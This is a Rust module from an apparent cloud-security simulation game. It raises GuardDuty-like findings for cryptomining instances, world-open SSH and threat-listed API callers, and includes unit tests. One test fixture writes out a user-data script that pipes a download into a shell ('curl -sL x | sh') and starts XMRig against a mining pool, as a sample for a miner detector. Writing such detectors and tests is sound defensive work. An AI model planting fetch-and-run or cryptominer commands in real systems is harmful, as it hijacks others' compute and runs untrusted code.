//! GuardDuty-like findings: the simulation watches what happens (instances talking to a
//! mining pool, SSH open to the world on a running instance, calls from an address on the
//! threat list) and raises findings with the real GuardDuty type names and severities.

use super::clock::SimClock;
use super::health::internet_allowed;
use super::ids::AwsId;
use super::model::*;
use super::trail::CloudTrail;
use super::world::with_query;
use crate::scenario::Scenario;
use bevy::ecs::entity::EntityHashMap;
use bevy::platform::collections::HashMap;
use bevy::prelude::*;

/// An EC2 instance querying a Bitcoin-mining domain (GuardDuty severity 8, high).
pub const CRYPTO_MINING: &str = "CryptoCurrency:EC2/BitcoinTool.B!DNS";
/// An API call from an address on a threat list (severity 5, medium).
pub const MALICIOUS_IP_CALLER: &str = "UnauthorizedAccess:IAMUser/MaliciousIPCaller";
/// An unprotected port on an instance is being probed (severity 2, low).
pub const PORT_PROBE: &str = "Recon:EC2/PortProbeUnprotectedPort";

/// One finding: a type, the resource it is about, how bad, when first and last seen.
#[derive(Clone, Debug, PartialEq)]
pub struct Finding {
    pub finding_type: &'static str,
    /// GuardDuty severity: 1–3.9 low, 4–6.9 medium, 7–8.9 high.
    pub severity: f64,
    /// The instance id or IAM user/key the finding is about.
    pub resource: String,
    pub first_seen: f64,
    pub last_seen: f64,
    /// How many times it was observed (GuardDuty's `count`).
    pub count: u32,
    /// Still going on (the instance runs, the port is open).
    pub active: bool,
}

impl Finding {
    /// `High`, `Medium` or `Low`, as the GuardDuty console labels severities.
    pub fn severity_label(&self) -> &'static str {
        if self.severity >= 7.0 {
            "High"
        } else if self.severity >= 4.0 {
            "Medium"
        } else {
            "Low"
        }
    }
}

/// The findings feed, oldest first.
#[derive(Resource, Clone, Debug, Default)]
pub struct Findings {
    pub list: Vec<Finding>,
    /// Trail events already looked at.
    trail_seen: u64,
    /// Where each finding is in `list`: by type, then by resource (kept with the list, so a
    /// tick looks each raised finding up once instead of indexing the whole feed again).
    index: HashMap<&'static str, HashMap<String, usize>>,
    /// Where each instance's findings are in `list` ([`ESTATE_TYPES`] order): estate findings
    /// are raised for every instance every tick, and an entity is looked up without hashing
    /// or comparing its id.
    by_instance: EntityHashMap<[Option<usize>; 2]>,
}

/// The findings raised about instances, in the slot order of `Findings::by_instance`.
const ESTATE_TYPES: [&str; 2] = [CRYPTO_MINING, PORT_PROBE];

/// A finding seen for the first time, at the end of the feed; its place in it.
fn push_new(
    list: &mut Vec<Finding>,
    finding_type: &'static str,
    severity: f64,
    resource: &str,
    now: f64,
) -> usize {
    list.push(Finding {
        finding_type,
        severity,
        resource: resource.to_string(),
        first_seen: now,
        last_seen: now,
        count: 1,
        active: true,
    });
    list.len() - 1
}

impl Findings {
    /// Raises each finding: a new one joins the feed, one already there (the same type about
    /// the same resource) is seen again. One lookup per finding however long the feed is (an
    /// estate of thousands of instances with SSH open raises thousands every tick), and no
    /// copy of the resource's id unless the finding is new.
    fn raise_all<'a>(
        &mut self,
        raised: impl IntoIterator<Item = (&'static str, f64, &'a str)>,
        now: f64,
    ) {
        for (finding_type, severity, resource) in raised {
            let by_resource = self.index.entry(finding_type).or_default();
            match by_resource.get(resource) {
                Some(&k) => self.raise_at(k, now),
                None => {
                    by_resource.insert(resource.to_string(), self.list.len());
                    push_new(&mut self.list, finding_type, severity, resource, now);
                }
            }
        }
    }

    /// Raises estate findings about instances (`(slot in ESTATE_TYPES, severity, instance)`),
    /// as [`Findings::raise_all`] would with the instances' ids; `id_of` gives an instance's
    /// id, asked only for an instance not raised before.
    fn raise_instances<'a>(
        &mut self,
        raised: impl IntoIterator<Item = (usize, f64, Entity)>,
        id_of: impl Fn(Entity) -> &'a str,
        now: f64,
    ) {
        for (slot, severity, e) in raised {
            let finding_type = ESTATE_TYPES[slot];
            match self.by_instance.get(&e).and_then(|s| s[slot]) {
                Some(k) => self.raise_at(k, now),
                None => {
                    let resource = id_of(e);
                    // an id raised before through the string index (never in practice) keeps
                    // its place in the feed
                    let k = match self.index.get(finding_type).and_then(|m| m.get(resource)) {
                        Some(&k) => {
                            self.raise_at(k, now);
                            k
                        }
                        None => push_new(&mut self.list, finding_type, severity, resource, now),
                    };
                    self.by_instance.entry(e).or_default()[slot] = Some(k);
                }
            }
        }
    }

    /// The finding at `k` is seen again.
    fn raise_at(&mut self, k: usize, now: f64) {
        let f = &mut self.list[k];
        if !f.active || now - f.last_seen >= 60.0 {
            f.count += 1;
            f.last_seen = now;
        }
        f.active = true;
    }

    /// One finding at a time, scanning the feed (what `raise_all` replaced; the tests compare).
    #[cfg(test)]
    fn raise(&mut self, finding_type: &'static str, severity: f64, resource: &str, now: f64) {
        match self
            .list
            .iter_mut()
            .find(|f| f.finding_type == finding_type && f.resource == resource)
        {
            Some(f) => {
                if !f.active || now - f.last_seen >= 60.0 {
                    f.count += 1;
                    f.last_seen = now;
                }
                f.active = true;
            }
            None => self.list.push(Finding {
                finding_type,
                severity,
                resource: resource.to_string(),
                first_seen: now,
                last_seen: now,
                count: 1,
                active: true,
            }),
        }
    }

    /// Findings still going on.
    pub fn active(&self) -> impl Iterator<Item = &Finding> {
        self.list.iter().filter(|f| f.active)
    }
}

/// Marks an instance whose user data runs a cryptominer: it burns all its CPU.
#[derive(Component, Clone, Copy, Debug, Default)]
pub struct Miner;

/// True if a user-data script starts a miner (read at launch, into the boot plan).
pub use super::userdata::runs_miner;

/// Looks at the estate and the trail once a tick and updates the feed.
pub fn detect_findings(world: &mut World) {
    if !world.contains_resource::<Findings>() {
        return;
    }
    let now = world.resource::<SimClock>().now;
    // (creation order, slot in ESTATE_TYPES, severity, the instance), sorted below. Instances
    // launched together share their security groups: the verdict for the previous instance's
    // is reused when the next one has the same. Whether the user data runs a miner was read
    // once, at launch.
    let mut estate: Vec<(Seq, usize, f64, Entity)> =
        with_query::<(Entity, &Seq, &Instance), (), _>(world, |world, q| {
            let mut estate = Vec::new();
            let mut last_groups: Option<(&[Entity], bool)> = None;
            for (e, seq, i) in q.iter(world) {
                if i.state != InstanceState::Running {
                    continue;
                }
                let ssh_open = match last_groups {
                    Some((groups, verdict)) if *groups == *i.security_groups => verdict,
                    _ => internet_allowed(world, &i.security_groups, 22),
                };
                last_groups = Some((&i.security_groups, ssh_open));
                if i.boot.runs_miner {
                    estate.push((*seq, 0, 8.0, e));
                }
                if ssh_open {
                    estate.push((*seq, 1, 2.0, e));
                }
            }
            estate
        });
    // the keys are unique, so a stable sort orders them as an unstable one would; the stable
    // sort merges the runs the query gives (one per archetype) in linear time
    estate.sort_by_key(|&(seq, slot, _, _)| (seq, slot));
    let miners: Vec<Entity> = estate.iter().filter(|x| x.1 == 0).map(|x| x.3).collect();
    for e in miners {
        if world.get::<Miner>(e).is_none() {
            world.entity_mut(e).insert(Miner);
        }
    }
    world.resource_scope(|world, mut f: Mut<Findings>| {
        let bad = &world.resource::<Scenario>().known_bad_ips;
        let trail = world.resource::<CloudTrail>();
        let mut callers: Vec<(&'static str, f64, &str)> = Vec::new();
        for e in trail.since(f.trail_seen) {
            if let (Some(ip), Some(key)) = (&e.caller.source_ip, &e.caller.access_key)
                && bad.contains(ip)
            {
                callers.push((MALICIOUS_IP_CALLER, 5.0, key.as_str()));
            }
        }
        f.trail_seen = trail.total;
        for finding in f.list.iter_mut() {
            // Estate findings are re-raised every tick while they last; a caller finding
            // stays active for ten minutes after the last call.
            if finding.finding_type != MALICIOUS_IP_CALLER || now - finding.last_seen > 600.0 {
                finding.active = false;
            }
        }
        f.raise_instances(
            estate
                .iter()
                .map(|&(_, slot, severity, e)| (slot, severity, e)),
            |e| world.get::<AwsId>(e).map_or("", |a| a.0.as_str()),
            now,
        );
        f.raise_all(callers, now);
    });
}

/// A new round: no findings.
pub fn reset(world: &mut World) {
    world.insert_resource(Findings::default());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_miner_in_user_data_is_caught_in_any_letter_case_and_the_web_app_is_not() {
        assert!(runs_miner(
            "#!/bin/bash\ncurl -sL x | sh\n./XMRig -o STRATUM+TCP://pool:3333"
        ));
        assert!(runs_miner("nohup ./minerd &"));
        assert!(runs_miner("xmrig"));
        assert!(!runs_miner(
            "#!/bin/bash\nyum install -y unicorn-rentals\nsystemctl start unicorn-rentals\n"
        ));
        assert!(!runs_miner(""));
        assert!(!runs_miner("xmri"));
    }

    #[test]
    fn a_feed_raised_in_one_go_counts_like_one_finding_at_a_time() {
        // 3,000 instances with SSH open, one of them mining, seen at minutes 0, 0.5, 1 and 3
        let raised = |n: usize| -> Vec<(&'static str, f64, String)> {
            let mut v: Vec<_> = (0..n)
                .map(|k| (PORT_PROBE, 2.0, format!("i-{k:017x}")))
                .collect();
            v.push((CRYPTO_MINING, 8.0, "i-00000000000000007".into()));
            v.push((PORT_PROBE, 2.0, "i-00000000000000007".into()));
            v
        };
        let (mut batch, mut single) = (Findings::default(), Findings::default());
        for (t, n) in [(0.0, 3_000), (30.0, 3_000), (60.0, 2_000), (180.0, 3_000)] {
            for f in [&mut batch, &mut single] {
                for x in f.list.iter_mut() {
                    x.active = false;
                }
            }
            let list = raised(n);
            batch.raise_all(
                list.iter().map(|(ty, sev, res)| (*ty, *sev, res.as_str())),
                t,
            );
            for (ty, sev, res) in raised(n) {
                single.raise(ty, sev, &res, t);
            }
        }
        assert_eq!(batch.list, single.list);
        assert_eq!(batch.list.len(), 3_001);
        let seven = batch
            .list
            .iter()
            .find(|f| f.finding_type == PORT_PROBE && f.resource == "i-00000000000000007")
            .unwrap();
        // each round counts once (the feed marks estate findings inactive before each round),
        // the repeat within a round does not
        assert_eq!(seven.count, 4);
    }
}
